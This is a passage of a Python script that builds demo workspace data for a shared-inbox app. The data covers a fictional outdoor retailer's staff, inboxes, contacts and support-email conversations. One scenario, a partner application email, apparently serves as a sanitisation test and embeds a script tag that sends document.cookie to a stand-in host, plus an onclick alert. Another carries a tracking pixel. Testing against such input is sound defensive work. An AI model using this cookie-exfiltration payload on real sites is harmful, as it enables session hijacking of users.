#!/usr/bin/env python3
"""Generate the Switchboard demo workspace, public/demo/workspace.json.

Deterministic (fixed seed, fixed "now"), Python 3.11 standard library only. The output
deserialises into `domain::WorkspaceData` (src/domain/model.rs); tests/demo_data.rs checks
every reference and every documented fact, so change both together.

Rules the data keeps (the tests rely on them):
- Times are Unix milliseconds before DEMO_NOW (2026-11-20T12:00:00Z), within 30 days.
- A conversation's created_at / last_activity are its first / newest message dates,
  message_count is its number of messages and snippet is `snippet(newest.text_body)`.
- Message-IDs are stored without angle brackets; a reply's In-Reply-To is the previous mail of
  the thread and References lists every earlier mail in order. Comments are not mail.
- Outgoing mail is sent From the conversation's channel address by a user with inbox access.

Usage: python3 scripts/gen_demo.py   (from the repository root or anywhere)
"""

from __future__ import annotations

import html
import json
import random
import re
from datetime import datetime, timezone
from email.utils import format_datetime
from pathlib import Path

SEED = 20261120
DEMO_NOW = int(datetime(2026, 11, 20, 12, 0, tzinfo=timezone.utc).timestamp() * 1000)
MINUTE = 60_000
HOUR = 60 * MINUTE
DAY = 24 * HOUR
SNIPPET_CHARS = 120
BIG_MESSAGE_MIN_BYTES = 106_000

OUT_PATH = Path(__file__).resolve().parent.parent / "public" / "demo" / "workspace.json"

rng = random.Random(SEED)


def snippet(text: str) -> str:
    """Whitespace collapsed, at most SNIPPET_CHARS characters, `…` when cut."""
    flat = " ".join(text.split())
    if len(flat) <= SNIPPET_CHARS:
        return flat
    return flat[: SNIPPET_CHARS - 1].rstrip() + "\u2026"


def html_to_text(markup: str) -> str:
    """Plain text of simple HTML, as a mail client derives it when a mail has no text part."""
    markup = re.sub(r"(?is)<(script|style)\b.*?</\1>", "", markup)
    markup = re.sub(r"(?i)<br\s*/?>", "\n", markup)
    markup = re.sub(r"(?i)</(p|div|tr|h[1-6]|li)>", "\n\n", markup)
    markup = re.sub(r"(?s)<[^>]+>", "", markup)
    text = html.unescape(markup)
    lines = [line.strip() for line in text.split("\n")]
    return re.sub(r"\n{3,}", "\n\n", "\n".join(lines)).strip()


def paragraphs_html(text: str) -> str:
    parts = [p.strip() for p in text.split("\n\n") if p.strip()]
    return "".join("<p>" + html.escape(p).replace("\n", "<br>") + "</p>" for p in parts)


def new_message_id(domain: str) -> str:
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    token = "".join(rng.choice(alphabet) for _ in range(20))
    return f"{token}@{domain}"


# --------------------------------------------------------------------------------------------
# Workspace, teams, users
# --------------------------------------------------------------------------------------------

WORKSPACE = {
    "company": "Northwind Outfitters",
    "subdomain": "northwind",
    "plan": "professional",
    # SPEC §4: default reply email per team is off until an admin turns it on.
    "team_default_reply": {},
}

TEAMS = [
    {"id": "team-support", "name": "Support"},
    {"id": "team-billing", "name": "Billing"},
    {"id": "team-partnerships", "name": "Partnerships"},
]

PERSONAL_SIGNATURE = (
    "<p>Kind regards,<br><strong>{{sender.full_name}}</strong><br>{title} · Northwind Outfitters"
    '<br><a href="https://northwind.example">northwind.example</a></p>'
)

# (id, first, last, role, seat, availability, primary team, additional teams, title, crm from)
USER_ROWS = [
    ("u-maria", "Maria", "Popescu", "super_admin", "paid", "available", "team-support", [],
     "Head of Customer Care", True),
    ("u-tomasz", "Tomasz", "Kowalski", "admin", "paid", "available", "team-billing", [],
     "Finance Lead", True),
    ("u-giulia", "Giulia", "Rossi", "user", "paid", "available", "team-support",
     ["team-billing"], "Support & Billing Specialist", True),
    ("u-daan", "Daan", "de Vries", "user", "free", "available", "team-support", [],
     "Support Associate", False),
    ("u-ana", "Ana", "Ionescu", "user", "paid", "away", "team-support", [],
     "Support Specialist", True),
    ("u-piotr", "Piotr", "Nowak", "user", "paid", "available", "team-billing", [],
     "Billing Specialist", False),
    ("u-sofia", "Sofia", "Bianchi", "user", "paid", "available", "team-partnerships", [],
     "Partner Manager", True),
    ("u-lars", "Lars", "Jansen", "user", "paid", "available", None, [],
     "Operations", False),
]


def user_email(first: str, last: str) -> str:
    local = f"{first}.{last}".lower().replace(" ", "")
    return f"{local}@northwind.example"


USERS = []
for uid, first, last, role, seat, avail, primary, extra, title, crm in USER_ROWS:
    email = user_email(first, last)
    USERS.append(
        {
            "id": uid,
            "first_name": first,
            "last_name": last,
            "email": email,
            "seat": seat,
            "availability": avail,
            "role": role,
            "primary_team": primary,
            "additional_teams": extra,
            "signature_html": PERSONAL_SIGNATURE.replace("{title}", html.escape(title)),
            "crm_default_from": email if crm else None,
        }
    )
USER_BY_ID = {u["id"]: u for u in USERS}


def full_name(uid: str) -> str:
    user = USER_BY_ID[uid]
    return f"{user['first_name']} {user['last_name']}"


# --------------------------------------------------------------------------------------------
# Inboxes and channels
# --------------------------------------------------------------------------------------------

SUPPORT_TEAM_SIGNATURE = (
    "<p>{{sender.first_name}} {{sender.last_name}} · Northwind Support<br>"
    '<a href="https://northwind.example/help">Help centre</a> · Mon–Fri 8:00–18:00 CET</p>'
)

INBOXES = [
    {
        "id": "inbox-support",
        "name": "Support",
        "access": {"kind": "everyone"},
        "fallback": {
            "use_for_sending": True,
            "from_name_mode": "agent_and_company",
            "company_name": "Northwind Support",
            "username": "support",
            "from_address": {"kind": "use_default"},
            "signature_enabled": True,
            "signature_html": SUPPORT_TEAM_SIGNATURE,
            "original_sender_of_forwards": True,
        },
        "automation": {"auto_assign": None, "auto_ticket": None, "round_robin_next": 0},
    },
    {
        "id": "inbox-billing",
        "name": "Billing",
        # Only the Billing team acts here; Lars and Sofia do not see it, and Maria (super
        # admin) can view every thread but act on none.
        "access": {"kind": "specific_users_and_teams", "users": [], "teams": ["team-billing"]},
        "fallback": {
            "use_for_sending": False,
            "from_name_mode": "company_name",
            "company_name": "Northwind Billing",
            "username": "billing",
            "from_address": {"kind": "use_default"},
            "signature_enabled": False,
            "signature_html": "",
            "original_sender_of_forwards": True,
        },
        "automation": {"auto_assign": None, "auto_ticket": None, "round_robin_next": 0},
    },
]
INBOX_BY_ID = {i["id"]: i for i in INBOXES}


def channel(cid, inbox, kind, address, display, enabled=True):
    return {
        "id": cid,
        "inbox": inbox,
        "kind": kind,
        "address": address,
        "display_name": display,
        "enabled": enabled,
        "verified": True,
    }


CHANNELS = [
    channel("ch-support-fallback", "inbox-support", "fallback",
            "support@northwind.inbox.example", "Northwind Support"),
    channel("ch-billing-fallback", "inbox-billing", "fallback",
            "billing@northwind.inbox.example", "Northwind Billing"),
    channel("ch-support-email", "inbox-support", "team_email",
            "support@northwind.example", "Northwind Support"),
    channel("ch-billing-email", "inbox-billing", "team_email",
            "billing@northwind.example", "Northwind Billing"),
    channel("ch-partners-email", "inbox-support", "team_email",
            "partners@northwind.example", "Northwind Partners", enabled=False),
]
CHANNEL_BY_ID = {c["id"]: c for c in CHANNELS}

# --------------------------------------------------------------------------------------------
# Contacts
# --------------------------------------------------------------------------------------------

# (email, name or None, owner or None)
CONTACT_ROWS = [
    ("ioana.marin@posta.example", "Ioana Marin", "u-maria"),
    ("andrei.dumitrescu@mail.example", "Andrei Dumitrescu", None),
    ("elena.stanescu@posta.example", "Elena Stănescu", "u-ana"),
    ("mihai.georgescu@mail.example", "Mihai Georgescu", "u-giulia"),
    ("stefan.radulescu@outlook.example", "Ștefan Rădulescu", None),
    ("alexandra.munteanu@posta.example", "Alexandra Munteanu", None),
    ("cristina.turcan@mail.example", "Cristina Țurcan", "u-daan"),
    ("katarzyna.wojcik@poczta.example", "Katarzyna Wójcik", None),
    ("bartosz.wisniewski@poczta.example", "Bartosz Wiśniewski", "u-giulia"),
    ("agnieszka.zielinska@wp.example", "Agnieszka Zielińska", None),
    ("pawel.dabrowski@wp.example", "Paweł Dąbrowski", "u-piotr"),
    ("malgorzata.lewandowska@poczta.example", "Małgorzata Lewandowska", None),
    ("lukasz.kaminski@mail.example", "Łukasz Kamiński", "u-daan"),
    ("zofia.szymanska@harcerze-krakow.example", "Zofia Szymańska", "u-sofia"),
    ("francesca.ricci@libero.example", "Francesca Ricci", None),
    ("luca.marino@libero.example", "Luca Marino", "u-maria"),
    ("chiara.esposito@tiscali.example", "Chiara Esposito", None),
    ("matteo.conti@mail.example", "Matteo Conti", None),
    ("alessandro.bruno@studiobruno.example", "Alessandro Bruno", "u-tomasz"),
    ("giorgia.colombo@libero.example", "Giorgia Colombo", None),
    ("niccolo.ferre@mail.example", "Niccolò Ferrè", "u-ana"),
    ("sanne.dejong@ziggo.example", "Sanne de Jong", None),
    ("joost.vandenberg@kpn.example", "Joost van den Berg", None),
    ("femke.bakker@ziggo.example", "Femke Bakker", "u-giulia"),
    ("bram@bergsportvisser.example", "Bram Visser", "u-sofia"),
    ("maarten.smit@kpn.example", "Maarten Smit", None),
    ("zoe.mulder@ziggo.example", "Zoë Mulder", None),
    ("daniel.vermeulen@mail.example", "Daniël Vermeulen", "u-lars"),
    ("chloe.deboer@kpn.example", "Chloë de Boer", None),
    ("emma.johansson@mail.example", "Emma Johansson", None),
    ("lukas.mueller@web.example", "Lukas Müller", "u-tomasz"),
    ("sophie.dubois@mail.example", "Sophie Dubois", None),
    ("aoife.byrne@mail.example", "Aoife Byrne", None),
    ("mateo.garcia@correo.example", "Mateo García", None),
    ("ines.carvalho@mail.example", "Inês Carvalho", None),
    ("nora.haugen@online.example", "Nora Haugen", "u-piotr"),
    ("jakub.novak@seznam.example", "Jakub Novák", None),
    ("eszter.kovacs@mail.example", "Eszter Kovács", None),
    ("henrik.lindqvist@mail.example", "Henrik Lindqvist", None),
    ("amelie.laurent@mail.example", "Amélie Laurent", None),
    ("siobhan.kelly@mail.example", "Siobhán Kelly", None),
    ("orders@alpinecorner.example", None, None),
    ("ingrid.solberg@fjellguides.example", "Ingrid Solberg", None),
    ("growth@rankboost.example", None, None),
    ("dario@trailmixstore.example", "Dario Greco", "u-sofia"),
    ("wiebe.hoekstra@mail.example", "Wiebe Hoekstra", None),
    ("ruben.meijer@ziggo.example", "Ruben Meijer", None),
    ("lotte.vandijk@kpn.example", "Lotte van Dijk", "u-maria"),
]

CONTACTS = []
CONTACT_BY_EMAIL = {}
for index, (email, name, owner) in enumerate(CONTACT_ROWS, start=1):
    contact = {
        "id": f"c-{index:03d}",
        "email": email,
        "name": name,
        "owner": owner,
        "created_at": DEMO_NOW - rng.randint(35, 900) * DAY - rng.randint(0, DAY),
    }
    CONTACTS.append(contact)
    CONTACT_BY_EMAIL[email] = contact

# Contacts that only appear in their own special conversation.
RESERVED_CONTACTS = {
    "katarzyna.wojcik@poczta.example",
    "bartosz.wisniewski@poczta.example",
    "orders@alpinecorner.example",
    "ingrid.solberg@fjellguides.example",
    "growth@rankboost.example",
    "dario@trailmixstore.example",
    "mihai.georgescu@mail.example",
    "zofia.szymanska@harcerze-krakow.example",
    "bram@bergsportvisser.example",
    "wiebe.hoekstra@mail.example",
    "alessandro.bruno@studiobruno.example",
    "nora.haugen@online.example",
    "francesca.ricci@libero.example",
    "sanne.dejong@ziggo.example",
    "ioana.marin@posta.example",
    "agnieszka.zielinska@wp.example",
}

# --------------------------------------------------------------------------------------------
# Conversation scenarios
# --------------------------------------------------------------------------------------------

PRODUCTS = [
    ("Alpine 2 tent", 349.00),
    ("Ridgeline 45L backpack", 179.00),
    ("Fjord insulated jacket", 229.00),
    ("Trailhead hiking boots", 189.00),
    ("Summit down sleeping bag (-10 °C)", 289.00),
    ("Cascade rain shell", 159.00),
    ("Basecamp stove", 69.00),
    ("Lumen 400 headlamp", 49.00),
    ("Carbon trekking poles", 119.00),
    ("Merino base layer set", 99.00),
    ("Drift 30L dry bag", 39.00),
    ("Tundra fleece", 89.00),
]

CLOTHING = ["Fjord insulated jacket", "Cascade rain shell", "Tundra fleece",
            "Merino base layer set"]

# Step kinds: "in" (from the contact), "out" (a rep's reply), "note" (internal comment).
# Text placeholders: {first} {order} {product} {amount} {tracking} {invoice}.
SCENARIOS = [
    {
        "key": "order-status",
        "subject": "Where is my order {order}?",
        "repeat": 2,
        "status": "closed",
        "steps": [
            ("in", "Hello,\n\nI ordered the {product} last Tuesday (order {order}) and the "
                   "tracking page still says \"label created\". Is it actually on its way? I'm "
                   "leaving for a hike next weekend and would really like to have it by then."),
            ("out", "Thanks for your patience. I checked with our warehouse: order {order} left "
                    "us yesterday evening with DPD, tracking number {tracking}. The carrier scan "
                    "sometimes lags a day behind.\n\nIt should reach you within 2–3 working "
                    "days, well before your trip."),
            ("in", "It just updated to \"in transit\". Thank you for checking!"),
        ],
    },
    {
        "key": "return-size",
        "products": CLOTHING,
        "subject": "Return: {product} too small",
        "repeat": 2,
        "status": "closed",
        "steps": [
            ("in", "Hi,\n\nI'd like to return the {product} from order {order}; it's a size too "
                   "small. Do I need to print a label myself?"),
            ("out", "Of course. You have 60 days to return unused items. I've just emailed you a "
                    "prepaid return label: print it, stick it on the original box and drop it "
                    "at any post office.\n\nWe refund within 5 working days after the parcel "
                    "reaches our warehouse in Utrecht."),
            ("in", "Label received and the parcel is on its way back. Thanks!"),
        ],
    },
    {
        "key": "refund-missing",
        "repeat": 2,
        "subject": "Refund for returned {product} not received",
        "status": "open",
        "steps": [
            ("in", "Hello,\n\nI sent back the {product} (order {order}) two weeks ago. Tracking "
                   "shows it was delivered to you on the 4th, but I still haven't seen the "
                   "refund on my card."),
            ("note", "Warehouse confirms receipt on the 5th; the refund batch ran on Friday. "
                     "Asked Billing why it is not visible yet."),
            ("out", "I'm sorry for the wait. The refund of {amount} was issued on Friday. Banks "
                    "usually take 3–5 working days to show it; if it's not there by Thursday, "
                    "reply here and I'll send you the payment provider's confirmation."),
        ],
    },
    {
        "key": "exchange",
        "products": CLOTHING,
        "subject": "Exchange {product} for a larger size",
        "repeat": 2,
        "status": "open",
        "steps": [
            ("in", "Hi there,\n\nCan I exchange my {product} for a size L instead of M? The M "
                   "is tight across the shoulders with a fleece underneath."),
            ("out", "Absolutely. I've reserved a size L for you so it can't sell out. Send the M "
                    "back with the return label in the box, and we'll ship the L as soon as the "
                    "carrier scans your parcel."),
        ],
    },
    {
        "key": "warranty-boots-1",
        "rep": "u-giulia",
        "subject": "Sole coming off my Trailhead boots",
        "contact": "mihai.georgescu@mail.example",
        "product": "Trailhead hiking boots",
        "ticket": "tk-boots",
        "start_days_ago": 13,
        "status": "open",
        "steps": [
            ("in", "Good morning,\n\nThe sole of my Trailhead hiking boots is coming off at the "
                   "toe of the left boot after only five months (order {order}). I mostly use "
                   "them on weekend hikes. Is this covered by the warranty?"),
            ("out", "I'm sorry to hear that. Our boots have a 2-year warranty against "
                    "manufacturing defects, and this sounds like one.\n\nCould you send photos of "
                    "both boots, including the soles and the label inside the tongue? I've "
                    "opened a warranty ticket for you."),
            ("in", "Sure, I'll take the photos this weekend when I'm back home."),
            ("note", "Ticket created; waiting for photos. If it is lot 24-07 again, we replace "
                     "without asking for the boots back."),
        ],
    },
    {
        "key": "warranty-boots-2",
        "rep": "u-giulia",
        "subject": "Photos for my boot warranty claim",
        "contact": "mihai.georgescu@mail.example",
        "product": "Trailhead hiking boots",
        "ticket": "tk-boots",
        "start_days_ago": 6,
        "status": "open",
        "attachments": {0: [("IMG_4102.jpg", "image/jpeg", 31_744),
                            ("IMG_4105.jpg", "image/jpeg", 29_102)]},
        "steps": [
            ("in", "Hello again,\n\nAs promised, here are the photos of the boots. The label "
                   "says lot 24-07. Sorry for starting a new email, I couldn't find the old one."),
            ("note", "Linked this thread to the existing warranty ticket. Delamination is "
                     "clearly visible and it is lot 24-07, so it qualifies for a direct swap."),
            ("out", "Thank you for the photos, they're very clear. The product team confirmed "
                    "it's a known issue with that lot, so we're sending you a new pair free of "
                    "charge; no need to return the old ones. You'll get the tracking number "
                    "tomorrow."),
            ("in", "That's great service, thank you. Could you send size 44 again?"),
        ],
    },
    {
        "key": "missing-parcel",
        "rep": "u-daan",
        "subject": "Parcel marked delivered but not here",
        "ticket": "tk-parcel",
        "status": "open",
        "steps": [
            ("in", "Hi,\n\nMy parcel for order {order} shows as delivered yesterday at 14:12, "
                   "but it's not here. None of my neighbours have it either."),
            ("out", "I'm sorry, that's frustrating. I've opened an investigation with the "
                    "carrier ({tracking}).\n\nCould you confirm your delivery address and "
                    "whether there's a safe place (shed, meter cupboard, letterbox) the driver "
                    "might have used?"),
        ],
    },
    {
        "key": "stove-recall",
        "rep": "u-maria",
        "subject": "Is my Basecamp stove part of the recall?",
        "product": "Basecamp stove",
        "ticket": "tk-recall",
        "status": "closed",
        "steps": [
            ("in", "Hello,\n\nI read on a forum that some Basecamp stoves were recalled because "
                   "of a leaking valve. I bought mine last spring (order {order}). Is it "
                   "affected? Should I stop using it?"),
            ("out", "Good question, and thanks for checking before your next trip. The recall "
                    "concerns batch BC-2309 only, sold in March and April 2025. Your order "
                    "{order} shipped from batch BC-2411, which is not affected, so you can keep "
                    "using it safely."),
            ("in", "Thanks for checking so quickly!"),
            ("out", "You're welcome. Enjoy the trips, and happy cooking!"),
        ],
    },
    {
        "key": "group-quote",
        "subject": "Group discount for our scout camp",
        "contact": "zofia.szymanska@harcerze-krakow.example",
        "pool": "partners",
        "ticket": "tk-scouts",
        "status": "open",
        "steps": [
            ("in", "Dzień dobry,\n\nWe are a scouting group in Kraków and want to equip our "
                   "summer camp: 24 sleeping bags and 12 two-person tents. Do you offer group "
                   "or association discounts? We would need everything by mid-May."),
            ("out", "Thank you for thinking of us! Through our partner programme, associations "
                    "get 15% on orders of 10 or more items, and free delivery to one address.\n\n"
                    "I'll prepare a formal quote for 24 Summit sleeping bags and 12 Alpine 2 "
                    "tents and send it this week."),
            ("note", "Quote draft is in the shared drive. Asking Tomasz whether we can go to 18% "
                     "for a non-profit."),
        ],
    },
    {
        "key": "size-advice-bag",
        "subject": "Which sleeping bag for Norway in September?",
        "channel": "email",
        "repeat": 2,
        "status": "closed",
        "steps": [
            ("in", "Hello,\n\nI'm hiking the Hardangervidda in late September and sleep cold. "
                   "Would the Summit down bag (-10 °C) be overkill, or is a synthetic bag better "
                   "because of the damp?"),
            ("out", "Great trip! For late September up there, night temperatures around -5 °C "
                    "are common, so the Summit (-10 °C comfort limit -4 °C) is a good match for "
                    "a cold sleeper.\n\nDown handles damp fine if you use a liner and air it "
                    "daily; the Drift dry bag keeps it safe in the pack."),
            ("in", "Perfect, ordering both now. Thanks for the detailed answer."),
        ],
    },
    {
        "key": "boot-size",
        "subject": "Trailhead boots: EU 42 or 43?",
        "repeat": 2,
        "status": "closed",
        "steps": [
            ("in", "Hi,\n\nI'm between EU 42 and 43 in most brands. My foot is 27 cm long and "
                   "fairly wide. Which size would you recommend for the Trailhead boots?"),
            ("out", "With a 27 cm, wide foot we'd recommend EU 43: the Trailhead runs slightly "
                    "narrow and you want a thumb's width in front of your toes for descents. "
                    "If it doesn't fit, returns are free."),
        ],
    },
    {
        "key": "zipper",
        "subject": "Broken zipper on my {product}",
        "product": "Fjord insulated jacket",
        "status": "open",
        "steps": [
            ("in", "Hi,\n\nThe main zipper of my {product} split open from the bottom and won't "
                   "close anymore. I've had it for about a year. Can it be repaired?"),
            ("out", "Sorry about that! Zippers are covered for two years. Could you send a photo "
                    "of the zipper and the size label? Depending on the damage we repair it for "
                    "free or replace the jacket."),
        ],
    },
    {
        "key": "customs",
        "subject": "Customs fees for delivery to Switzerland",
        "channel": "email",
        "status": "closed",
        "steps": [
            ("in", "Hello,\n\nIf I order to Switzerland, will I have to pay customs or VAT "
                   "on delivery? And do you deduct the EU VAT?"),
            ("out", "Yes: for Switzerland we remove the EU VAT at checkout, and Swiss VAT (8.1%) "
                    "plus a small handling fee is collected by the carrier on delivery. Orders "
                    "under CHF 62 of VAT are usually exempt."),
            ("in", "Clear, thank you!"),
        ],
    },
    {
        "key": "address-change",
        "subject": "Wrong house number on order {order}",
        "repeat": 2,
        "status": "closed",
        "steps": [
            ("in", "Hello,\n\nI just placed order {order} and noticed I typed 41 instead of 14 "
                   "as my house number. Can you still fix it?"),
            ("out", "Caught it in time: the order hadn't been packed yet, so I've updated the "
                    "house number to 14. You'll receive the shipping confirmation as usual."),
        ],
    },
    {
        "key": "cancel",
        "subject": "Please cancel order {order}",
        "repeat": 2,
        "status": "closed",
        "steps": [
            ("in", "Hi,\n\nPlease cancel my order {order}. I found the {product} in a local "
                   "shop and don't need it anymore."),
            ("out", "Done: order {order} is cancelled and the {amount} authorisation on your "
                    "card has been released. It disappears from your statement within a few "
                    "days."),
        ],
    },
    {
        "key": "discount-code",
        "subject": "Discount code AUTUMN15 not working",
        "repeat": 2,
        "status": "closed",
        "steps": [
            ("in", "Hi,\n\nThe code AUTUMN15 from your newsletter says \"expired\" at checkout. "
                   "The email said it's valid all month?"),
            ("out", "You're right, the newsletter had the wrong end date, sorry about that. "
                    "I've applied the 15% to your order {order} manually; you'll see the "
                    "corrected total in your confirmation."),
            ("in", "Brilliant, thanks a lot."),
        ],
    },
    {
        "key": "headlamp",
        "subject": "Lumen 400 headlamp won't charge",
        "product": "Lumen 400 headlamp",
        "status": "open",
        "steps": [
            ("in", "Hi,\n\nMy new Lumen 400 headlamp doesn't charge: the LED blinks red twice and "
                   "then nothing. I tried two different USB chargers."),
            ("note", "Known issue: some USB-C cables shipped in October are charge-only at 5 V "
                     "without the data pins the lamp expects. A replacement cable fixes it."),
            ("out", "Thank you for the clear description. This is caused by the cable, not the "
                    "lamp: some cables from October don't work with it. I've posted a "
                    "replacement cable today; any USB-C cable from a phone also works."),
        ],
    },
    {
        "key": "backorder",
        "subject": "When is the {product} back in stock?",
        "product": "Fjord insulated jacket",
        "repeat": 2,
        "status": "open",
        "steps": [
            ("in", "Hello,\n\nThe {product} in forest green, size S, has been out of stock for "
                   "weeks. Do you know when it will be back?"),
            ("out", "The next delivery is expected on 3 December. Would you like me to set a "
                    "stock alert for you? You'd get one email the moment it's available."),
            ("in", "Yes please, set the alert for size S."),
        ],
    },
    {
        "key": "rental",
        "subject": "Do you rent tents?",
        "status": "closed",
        "steps": [
            ("in", "Hi,\n\nDo you rent out tents? We need two for a festival in June and don't "
                   "want to buy them."),
            ("out", "We don't rent equipment, sorry. If you'd like to own one, the Alpine 2 is "
                    "on sale until Sunday, and unused items can be returned within 60 days."),
        ],
    },
    {
        "key": "gift-card",
        "subject": "Gift card balance",
        "status": "closed",
        "steps": [
            ("in", "Hello,\n\nI got a Northwind gift card for my birthday. How can I check the "
                   "remaining balance? The code starts with NWG-7731."),
            ("out", "Happy birthday! Your card NWG-7731-… has €75.00 left and is valid until "
                    "November 2028. You can also check it any time at checkout under "
                    "\"Gift card\"."),
        ],
    },
    {
        "key": "password-reset",
        "subject": "Password reset email never arrives",
        "repeat": 2,
        "status": "closed",
        "steps": [
            ("in", "Hi,\n\nI've requested a password reset three times, but the email never "
                   "arrives. Not in spam either."),
            ("note", "Mail log shows a hard bounce: mailbox full. Can't fix on our side."),
            ("out", "I looked into it: your mail provider rejected our emails because the "
                    "mailbox is full. Once you've made some space, request the reset again and "
                    "it should arrive within a minute."),
            ("in", "That was it. Cleared my inbox and the link worked, thanks!"),
        ],
    },
    {
        "key": "repair",
        "subject": "Repair for a torn down jacket?",
        "status": "open",
        "steps": [
            ("in", "Hi,\n\nI tore the sleeve of my down jacket on a rock (small 3 cm tear, a "
                   "few feathers escaping). Do you offer repairs?"),
            ("out", "We do, through our repair partner in Utrecht: a sleeve patch costs €25 and "
                    "takes about two weeks. Until then, a piece of repair tape stops the down "
                    "from escaping. Shall I send you the repair form?"),
        ],
    },
    {
        "key": "praise",
        "subject": "The Ridgeline survived Patagonia!",
        "product": "Ridgeline 45L backpack",
        "status": "closed",
        "steps": [
            ("in", "Hello Northwind team,\n\nJust wanted to say my Ridgeline 45L backpack "
                   "survived three weeks of rain and wind in Patagonia without a single torn "
                   "seam. Thank you for making good gear!"),
            ("out", "This made our day, thank you for writing! Would you mind if we shared your "
                    "message (first name only) on our blog?"),
            ("note", "Forwarded to marketing for the customer stories page."),
        ],
    },
    {
        "key": "wrong-item",
        "subject": "Wrong colour received",
        "product": "Cascade rain shell",
        "status": "open",
        "steps": [
            ("in", "Hi,\n\nI ordered the {product} in red (order {order}) but received a blue "
                   "one."),
            ("out", "I'm sorry, our mistake. A red one is on its way today. You can keep the "
                    "blue one for 30 days to decide: return it with the enclosed label or, if "
                    "you like it, keep it at 50% off."),
            ("in", "Nice offer, but I'll send it back. Thanks for sorting it out so fast."),
        ],
    },
    {
        "key": "shop",
        "subject": "Do you have a shop in Amsterdam?",
        "status": "closed",
        "steps": [
            ("in", "Hi,\n\nIs there a physical Northwind shop in Amsterdam where I can try on "
                   "boots?"),
            ("out", "We sell online only, but our partner Bergsport Visser in Haarlem stocks "
                    "most of our boots and is 20 minutes by train from Amsterdam Centraal."),
        ],
    },
    {
        "key": "italian",
        "greeting": False,
        "subject": "Spedizione in Sardegna",
        "contact": "francesca.ricci@libero.example",
        "status": "closed",
        "steps": [
            ("in", "Buongiorno,\n\nvorrei sapere se spedite anche in Sardegna e quanto tempo ci "
                   "vuole. Devo ordinare una tenda per fine mese.\n\nGrazie mille"),
            ("out", "Buongiorno Francesca,\n\nsì, spediamo in Sardegna: la consegna richiede "
                    "4–6 giorni lavorativi. (Yes, we ship to Sardinia: delivery takes 4–6 "
                    "working days.)"),
            ("in", "Perfetto, grazie!"),
        ],
    },
    {
        "key": "dutch",
        "subject": "Bestelling {order} nog niet verzonden",
        "contact": "sanne.dejong@ziggo.example",
        "status": "open",
        "steps": [
            ("in", "Hallo,\n\nMijn bestelling {order} is vier dagen geleden geplaatst en nog "
                   "steeds niet verzonden. Kunnen jullie kijken wat er aan de hand is?\n\n"
                   "Groetjes"),
        ],
    },
    {
        "key": "romanian",
        "subject": "Comanda {order} – factură pe firmă",
        "contact": "ioana.marin@posta.example",
        "status": "open",
        "steps": [
            ("in", "Bună ziua,\n\nAm plasat comanda {order} și aș avea nevoie de factură pe "
                   "firmă (SC Munte Verde SRL, CUI RO12345678). Se poate modifica?\n\n"
                   "Mulțumesc frumos"),
        ],
    },
    {
        "key": "polish",
        "subject": "Pytanie o rozmiar kurtki",
        "contact": "agnieszka.zielinska@wp.example",
        "status": "open",
        "steps": [
            ("in", "Dzień dobry,\n\nMam 168 cm wzrostu i zwykle noszę rozmiar M. Czy "
                   "kurtka Fjord jest raczej mała czy duża? Będę nosić pod nią polar.\n\n"
                   "Pozdrawiam"),
        ],
    },
    {
        "key": "pole-tips",
        "subject": "Replacement tips for trekking poles",
        "repeat": 2,
        "status": "open",
        "steps": [
            ("in", "Hello,\n\nDo you sell replacement carbide tips and rubber caps for the "
                   "Carbon trekking poles? One of mine wore down completely."),
        ],
    },
    {
        "key": "waterproofing",
        "subject": "Re-waterproofing the Cascade shell",
        "repeat": 2,
        "status": "open",
        "steps": [
            ("in", "Hi,\n\nMy Cascade rain shell is starting to wet out on the shoulders after "
                   "two seasons. Which wash-in or spray-on product do you recommend, and can I "
                   "tumble dry it afterwards?"),
        ],
    },
    {
        "key": "affiliate",
        "subject": "Affiliate programme for my hiking blog",
        "contact": "wiebe.hoekstra@mail.example",
        "pool": "partners",
        "status": "open",
        "steps": [
            ("in", "Hi,\n\nI run a Dutch hiking blog (around 40,000 visitors a month) and often "
                   "review gear. Do you have an affiliate programme?"),
            ("out", "Thanks for reaching out! We do: 8% commission on sales via your links, with "
                    "a 30-day cookie. I've sent you the sign-up link and our brand guidelines in "
                    "a separate email."),
            ("in", "Signed up, thanks. Could I get a test sample of the Alpine 2 for a review?"),
        ],
    },
    {
        "key": "wholesale",
        "subject": "Wholesale prices for a shop in Haarlem",
        "contact": "bram@bergsportvisser.example",
        "pool": "partners",
        "status": "open",
        "steps": [
            ("in", "Hallo,\n\nWe're expanding our boot wall for the winter season and would "
                   "like to stock the Trailhead boots in sizes 38–46. Can you send me your "
                   "current wholesale price list and minimum order quantities?"),
            ("note", "Bram has been a partner since 2024; send the 2026 winter price list and "
                     "offer the same 40% margin as last season."),
        ],
    },
    {
        "key": "tracker",
        "subject": "Purchase order PO-2026-118: merino base layers",
        "contact": "ingrid.solberg@fjellguides.example",
        "channel": "email",
        "status": "open",
        "steps": [
            ("in", None),
            ("out", "Thank you for the purchase order. All 40 sets are in stock; we'll ship "
                    "them on Monday together with the invoice to accounts@fjellguides.example."),
        ],
        "html_in": {
            0: "<p>Dear Northwind team,</p>"
               "<p>Please find our purchase order <strong>PO-2026-118</strong> below:</p>"
               "<table><tr><th>Item</th><th>Qty</th></tr>"
               "<tr><td>Merino base layer set, size M</td><td>24</td></tr>"
               "<tr><td>Merino base layer set, size L</td><td>16</td></tr></table>"
               "<p>Delivery to Fjell Guides AS, Storgata 12, Tromsø.</p>"
               "<p>Best regards,<br>Ingrid Solberg<br>Procurement, Fjell Guides</p>"
               '<img src="https://tracker.example/p.gif" width="1" height="1" alt="">'
        },
    },
    {
        "key": "script",
        "subject": "Partner programme application: Trail Mix Store",
        "contact": "dario@trailmixstore.example",
        "pool": "partners",
        "status": "open",
        "steps": [
            ("in", None),
            ("note", "Looks legit (small shop in Bologna, 3 years old). Their email signature "
                     "contains a script tag; do not open their links in the browser preview."),
        ],
        "html_in": {
            0: "<p>Ciao Northwind,</p>"
               "<p>We are a small outdoor shop in Bologna and would love to join your partner "
               "programme. We already sell tents and backpacks from two other brands.</p>"
               "<p>Grazie,<br>Dario Greco<br><em>Trail Mix Store</em></p>"
               "<script>document.location='https://evil.example/steal?c='+document.cookie"
               "</script>"
               '<p><a href="https://trailmixstore.example" onclick="alert(1)">'
               "trailmixstore.example</a></p>"
        },
    },
    {
        "key": "spam",
        "subject": "Boost your store's rankings by 300%",
        "contact": "growth@rankboost.example",
        "trashed": True,
        "status": "closed",
        "steps": [
            ("in", "Hello Northwind Outfitters,\n\nI noticed your website is not on the first "
                   "page of Google for \"hiking boots\". Our proven SEO package guarantees a "
                   "300% increase in traffic in 30 days. Reply YES for a free audit!"),
        ],
